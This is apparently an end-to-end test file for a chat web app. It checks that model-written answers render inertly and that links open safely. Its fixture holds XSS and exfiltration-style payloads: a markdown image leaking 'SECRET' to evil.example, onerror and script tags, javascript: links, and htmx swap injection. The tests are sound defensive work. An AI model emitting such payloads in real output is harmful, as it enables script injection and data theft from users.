"""What a model writes can load nothing, run nothing and lead nowhere unseen."""

from __future__ import annotations

from playwright.sync_api import expect

from accounts.models import User
from catalog.models import Route
from tests.journeys.conftest import Visit, answer, ask, assert_same_as_a_reload, wait_for_end
from tests.upstream import Script, Upstream, tokenized

STRANGE = """![a cat](https://evil.example/cat.png?q=SECRET) and ![](//evil.example/x)

<img src="https://evil.example/pixel.png" onerror="document.title='owned'">
<script>document.title = 'owned'</script>
<style>body { background: url(https://evil.example/bg) }</style>
<link rel=stylesheet href=https://evil.example/x.css><iframe src=https://evil.example></iframe>

<hx-partial id="composer">gone</hx-partial> <div hx-get="/" hx-trigger="load" id="composer">gone</div>

[a link](https://evil.example/page) [a script](javascript:document.title='owned') [us](/c/) <https://evil.example/auto>

```html
<hx-partial id="title">gone</hx-partial><img src=https://evil.example/code.png>
```

| <script>x</script> | ![t](https://evil.example/t.png) |
|---|---|
| `<hx-partial id=live>` | $\\href{javascript:alert(1)}{x}$ |
"""


def test_images_html_and_links_of_a_model_load_nothing_and_run_nothing(
    visit: Visit, alice: User, route: Route, upstream: Upstream
) -> None:
    upstream.play(Script().role().tokens(tokenized(STRANGE), 500).finish().done())
    upstream.play(Script.text("<script>document.title='owned'</script>"))  # the conversation's title
    window = visit(alice)
    page = window.tab()
    ask(page, "<img src=https://evil.example/typed.png> <hx-partial id=title>gone</hx-partial>")
    wait_for_end(page)
    expect(page.locator("#title")).to_contain_text("<script>")
    body = answer(page).locator(".md")
    for shown in ("<script>document.title = 'owned'</script>", "<iframe src=", "<hx-partial id=", "evil.example"):
        expect(body).to_contain_text(shown)
    assert body.locator("img, script, style, link, iframe, object, embed, [hx-get], [onerror], [style]").count() == 0
    links = body.locator("a[href]")
    assert links.count() >= 3
    for link in links.all():
        assert str(link.get_attribute("href")).startswith("https://evil.example/"), link.get_attribute("href")
        assert {"noopener", "noreferrer", "nofollow"} <= set(str(link.get_attribute("rel")).split())
        assert link.get_attribute("target") == "_blank"
    expect(page.locator("#composer #question")).to_be_visible()
    expect(page.locator("article.message.user .typed")).to_contain_text("<img src=https://evil.example/typed.png>")
    assert page.title() != "owned"
    assert_same_as_a_reload(window, page)


def test_an_answer_of_another_language_and_of_emoji_is_the_same_live_and_reloaded(
    visit: Visit, alice: User, route: Route, upstream: Upstream
) -> None:
    pieces = list("你好,世界!👩🏽‍💻 e\u0301 \u202eabc\u202c \u2028x\n\n- 一\n- 二\n\n**粗体**。")
    upstream.play(Script.text(*pieces))
    window = visit(alice)
    page = window.tab()
    ask(page, "用中文回答 🚀\n\n  谢谢")
    wait_for_end(page)
    expect(page.locator("#title")).to_have_text("A short title")
    expect(answer(page)).to_contain_text("你好")
    assert_same_as_a_reload(window, page)
